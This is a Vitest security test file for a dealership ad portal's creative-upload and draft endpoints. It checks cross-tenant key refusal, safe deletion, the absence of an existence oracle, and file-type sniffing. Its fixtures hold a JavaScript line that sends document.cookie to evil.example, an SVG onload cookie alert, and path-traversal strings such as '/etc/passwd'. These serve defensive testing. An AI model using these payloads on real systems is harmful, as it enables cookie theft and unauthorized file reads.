import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startPortal, type Portal, type PortalSession } from './portal-process';

/**
 * Issue 18 items 2 and 10 against the real portal process over HTTP: creative storage keys belong
 * to the dealership they were signed for (uploads ledger), nothing is deleted by a check, a discard
 * deletes only files nothing else records, the answers give no oracle, and video uploads take video
 * only. The attacker is a signed-in user acting for another dealership than the key's: the demo's
 * dealership user (dealership 101 only) against files of dealership 102, and the agency
 * administrator acting for 102 against files of 101's dealership user.
 */

/** An MP4 of `size` bytes: an `ftyp` box (brand isom, sniffed as video/mp4), then zeros. */
const mp4 = (size = 1024) =>
  Buffer.concat([
    Buffer.from('0000001866747970', 'hex'),
    Buffer.from('isom'),
    Buffer.from('00000200', 'hex'),
    Buffer.from('isomiso2'),
    Buffer.alloc(size - 24),
  ]);
/** Larger than mob's 1 MB limit, within video's 100 MB: recorded on a mob draft, the old check deleted it. */
const BIG_MP4 = mp4(1024 * 1024 + 4096);
const HTML = Buffer.from('<!doctype html><html><body><script>fetch("/api/me")</script></body></html>');
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>1</script></svg>',
);
const JS = Buffer.from('document.location="https://evil.example/?c="+document.cookie;');
const PACING = 1763200000;

let portal: Portal;
let dealer: PortalSession;
let agency: PortalSession;
let org = 0;
const tenant = (dealership: number) => `/api/agencies/${org}/dealership/${dealership}`;

beforeAll(async () => {
  portal = await startPortal();
  dealer = await portal.signIn('dealer@demo.test');
  agency = await portal.signIn('agency@demo.test');
  org = dealer.user.organization_id;
}, 120_000);
afterAll(async () => {
  await portal?.stop();
});

const onDisk = (key: string) => fs.existsSync(path.join(portal.dataDir, 'storage', ...key.split('/')));
const storedFiles = () =>
  fs
    .readdirSync(path.join(portal.dataDir, 'storage'), { recursive: true })
    .map(String)
    .filter((f) => fs.statSync(path.join(portal.dataDir, 'storage', f)).isFile())
    .sort();

async function call(session: PortalSession, dealership: number, method: string, url: string, json?: object) {
  const response = await session.fetch(`${tenant(dealership)}${url}`, { method, ...(json ? { json } : {}) });
  const text = await response.text();
  return { status: response.status, text, json: text ? (JSON.parse(text) as Record<string, unknown>) : {} };
}

async function newDraft(session: PortalSession, dealership: number, product_code: string) {
  const created = await call(session, dealership, 'POST', '/campaigns', {
    pacing_id: PACING,
    product_code,
    is_incomplete: 1,
  });
  expect(created.status, created.text).toBe(201);
  return created.json.link_campaign_id as number;
}

/** Signs an upload and PUTs the bytes to the signed URL as the browser does (no cookie). */
async function upload(
  session: PortalSession,
  dealership: number,
  product_code: string,
  fileName: string,
  mimeType: string,
  bytes: Buffer,
) {
  const signed = await call(session, dealership, 'POST', '/campaigns/creative/upload-url', {
    mimeType,
    fileName,
    bucket_name: 'creatives',
    product_code,
    fileSize: bytes.length,
  });
  if (signed.status !== 200) return { signStatus: signed.status, putStatus: 0, link: '' };
  const put = await portal.fetch(signed.json.uploadUrl as string, {
    method: 'PUT',
    headers: { 'content-type': mimeType },
    body: new Uint8Array(bytes),
  });
  return { signStatus: 200, putStatus: put.status, link: signed.json.link as string };
}

const record = (session: PortalSession, dealership: number, draftId: number, link: string) =>
  call(session, dealership, 'POST', '/campaigns/creative', {
    link_campaign_id: draftId,
    is_active: 1,
    creative_image: link,
  });

/** A video uploaded and recorded on a new draft of `dealership` (product VID or OTT). */
async function recordedCreative(
  session: PortalSession,
  dealership: number,
  product: string,
  fileName: string,
  bytes: Buffer,
) {
  const draftId = await newDraft(session, dealership, product);
  const file = await upload(session, dealership, product, fileName, 'video/mp4', bytes);
  expect(file.putStatus).toBe(204);
  const recorded = await record(session, dealership, draftId, file.link);
  expect(recorded.status, recorded.text).toBe(201);
  return { draftId, link: file.link };
}

const creationBody = (draftId: number, product_code: string, creatives: string, dealershipName: string) => ({
  link_campaign_id: draftId,
  vendor_campaign_name: `${dealershipName} - Black box [${product_code}${PACING}]`,
  notes: '',
  budget: 5000,
  zip: 'Greenville-Spartanburg-Asheville-Anderson',
  product: 'Video (Preroll)',
  pacing_id: PACING,
  campaign_display_name: 'Black box',
  start_date: '2026-12-01',
  end_date: '2026-12-31',
  campaign_type: 'Non Inventory Campaign',
  objective: 'awareness',
  audience: ['None'],
  primary_kpi: null,
  secondary_kpi: null,
  tertiary_kpi: null,
  product_code,
  creatives,
});

async function dealershipName(session: PortalSession, dealership: number) {
  const response = await session.fetch(tenant(dealership));
  return ((await response.json()) as { name: string }).name;
}

describe('creative storage keys belong to their dealership (issue 18 item 2)', () => {
  it("another dealership's key is refused on draft creation, record, PATCH and campaign creation; its file stays on disk", async () => {
    // The victim: a video of dealership 102, recorded on 102's draft.
    const victim = await recordedCreative(agency, 102, 'VID', 'victim-spot.mp4', BIG_MP4);
    expect(onDisk(victim.link)).toBe(true);

    // The attacker: dealership 101's user names that key.
    const draft = await call(dealer, 101, 'POST', '/campaigns', {
      pacing_id: PACING,
      product_code: 'MOB',
      is_incomplete: 1,
      creatives: victim.link,
    });
    expect(draft.status, draft.text).toBe(400);
    expect(onDisk(victim.link)).toBe(true);

    const own = await newDraft(dealer, 101, 'VID');
    const recorded = await record(dealer, 101, own, victim.link);
    expect(recorded.status, recorded.text).toBe(400);
    const patched = await call(dealer, 101, 'PATCH', `/campaigns/${own}`, { creatives: victim.link });
    expect(patched.status, patched.text).toBe(400);
    const name = await dealershipName(dealer, 101);
    const created = await call(
      dealer,
      101,
      'POST',
      '/campaigns/create-noninventory-campaign',
      creationBody(own, 'VID', victim.link, name),
    );
    expect(created.status, created.text).toBe(400);
    // Discarding the attacker's draft leaves the victim's file alone.
    expect((await call(dealer, 101, 'DELETE', `/campaigns/${own}`)).status).toBe(204);
    expect(onDisk(victim.link)).toBe(true);
    expect(fs.readFileSync(path.join(portal.dataDir, 'storage', ...victim.link.split('/'))).equals(BIG_MP4)).toBe(true);

    // The other way round: acting for dealership 102, a key of 101's draft is refused too.
    const of101 = await recordedCreative(dealer, 101, 'VID', 'dealer-spot.mp4', mp4());
    const as102 = await newDraft(agency, 102, 'VID');
    expect((await record(agency, 102, as102, of101.link)).status).toBe(400);
    expect((await call(agency, 102, 'PATCH', `/campaigns/${as102}`, { creatives: of101.link })).status).toBe(400);
    expect((await call(agency, 102, 'DELETE', `/campaigns/${as102}`)).status).toBe(204);
    expect(onDisk(of101.link)).toBe(true);
  });

  it('path strings are refused on every path that writes creatives and never stored', async () => {
    const own = await newDraft(dealer, 101, 'VID');
    for (const link of [
      '../../session-secret',
      'creatives/../../session-secret',
      '../pgdata/PG_VERSION',
      '/etc/passwd',
      'creatives/link/..%2F..%2Fsession-secret',
    ]) {
      const draft = await call(dealer, 101, 'POST', '/campaigns', {
        pacing_id: PACING,
        product_code: 'VID',
        is_incomplete: 1,
        creatives: link,
      });
      expect(draft.status, `${link}: ${draft.text}`).toBe(400);
      expect((await record(dealer, 101, own, link)).status, link).toBe(400);
      const patched = await call(dealer, 101, 'PATCH', `/campaigns/${own}`, { creatives: link });
      expect(patched.status, `${link}: ${patched.text}`).toBe(400);
    }
    const list = await call(dealer, 101, 'GET', '/campaigns/incomplete?pageSize=100');
    const saved = (list.json.data as Array<{ link_campaign_id: number; creatives: string | null }>).find(
      (d) => d.link_campaign_id === own,
    );
    expect(saved?.creatives ?? null).toBeNull();
  });

  it('answers a foreign key that exists exactly as one that does not (no oracle)', async () => {
    const victim = await recordedCreative(agency, 102, 'VID', 'oracle-spot.mp4', mp4());
    // Same shape, one character changed: no such file anywhere.
    const missing = victim.link.replace(/[0-9a-f](?=[^0-9a-f]*$)/, (c) => (c === '0' ? '1' : '0'));
    expect(missing).not.toBe(victim.link);
    expect(onDisk(missing)).toBe(false);
    const own = await newDraft(dealer, 101, 'VID');
    const answers = async (link: string) => {
      const recorded = await record(dealer, 101, own, link);
      const patched = await call(dealer, 101, 'PATCH', `/campaigns/${own}`, { creatives: link });
      const draft = await call(dealer, 101, 'POST', '/campaigns', {
        pacing_id: PACING,
        product_code: 'VID',
        is_incomplete: 1,
        creatives: link,
      });
      return [recorded, patched, draft].map((a) => `${a.status} ${a.text}`);
    };
    const existing = await answers(victim.link);
    expect(existing).toEqual(await answers(missing));
    expect(existing.every((a) => a.startsWith('400 '))).toBe(true);
  });
});

describe('discarding a draft deletes only files nothing else records (issue 18 item 2)', () => {
  it("discard deletes the draft's own files and nothing of another draft or dealership", async () => {
    const victim = await recordedCreative(agency, 102, 'VID', 'kept-victim.mp4', mp4());
    const kept = await recordedCreative(dealer, 101, 'VID', 'other-draft.mp4', mp4());
    const discarded = await recordedCreative(dealer, 101, 'VID', 'discarded.mp4', mp4());
    // The discarded draft also named the other dealership's key (refused, but tried).
    await record(dealer, 101, discarded.draftId, victim.link);
    expect((await call(dealer, 101, 'DELETE', `/campaigns/${discarded.draftId}`)).status).toBe(204);
    expect(onDisk(discarded.link)).toBe(false);
    expect(onDisk(kept.link)).toBe(true);
    expect(onDisk(victim.link)).toBe(true);
    // Discarding only the creatives of a draft works the same way.
    expect((await call(dealer, 101, 'DELETE', `/campaigns/${kept.draftId}/creative`)).status).toBe(204);
    expect(onDisk(kept.link)).toBe(false);
  });

  it('a file another draft or a created campaign still records is kept', async () => {
    const first = await recordedCreative(dealer, 101, 'VID', 'shared.mp4', mp4());
    const second = await newDraft(dealer, 101, 'VID');
    expect((await record(dealer, 101, second, first.link)).status).toBe(201);
    expect((await call(dealer, 101, 'DELETE', `/campaigns/${second}`)).status).toBe(204);
    expect(onDisk(first.link)).toBe(true);

    // The first draft becomes a campaign; a later draft with the same file is discarded: kept.
    const name = await dealershipName(dealer, 101);
    const created = await call(
      dealer,
      101,
      'POST',
      '/campaigns/create-noninventory-campaign',
      creationBody(first.draftId, 'VID', first.link, name),
    );
    expect(created.status, created.text).toBe(201);
    const third = await newDraft(dealer, 101, 'VID');
    expect((await record(dealer, 101, third, first.link)).status).toBe(201);
    expect((await call(dealer, 101, 'DELETE', `/campaigns/${third}`)).status).toBe(204);
    expect(onDisk(first.link)).toBe(true);
  });
});

describe('creative uploads take their kind of file only (issue 18 item 10)', () => {
  it('HTML, SVG and JavaScript declared as video are refused and nothing is stored', async () => {
    const before = storedFiles();
    for (const product of ['VID', 'OTT']) {
      for (const [fileName, mimeType] of [
        ['spot.html', 'text/html'],
        ['spot.mp4', 'text/html'],
        ['art.svg', 'image/svg+xml'],
        ['app.js', 'application/javascript'],
        ['app.mp4', 'application/javascript'],
      ] as const) {
        const signed = await upload(dealer, 101, product, fileName, mimeType, HTML);
        expect(signed.signStatus, `${product} ${mimeType} ${fileName}`).toBe(400);
      }
      // Declared as video, the body is not: refused when sniffed.
      for (const [fileName, mimeType, body] of [
        ['spot.mp4', 'video/mp4', HTML],
        ['spot.webm', 'video/webm', SVG],
        ['spot.mov', 'video/quicktime', JS],
      ] as const) {
        const sent = await upload(dealer, 101, product, fileName, mimeType, body);
        expect(sent.putStatus, `${product} ${mimeType}`).toBe(415);
        expect(onDisk(sent.link)).toBe(false);
      }
    }
    expect(storedFiles()).toEqual(before);
  });
});
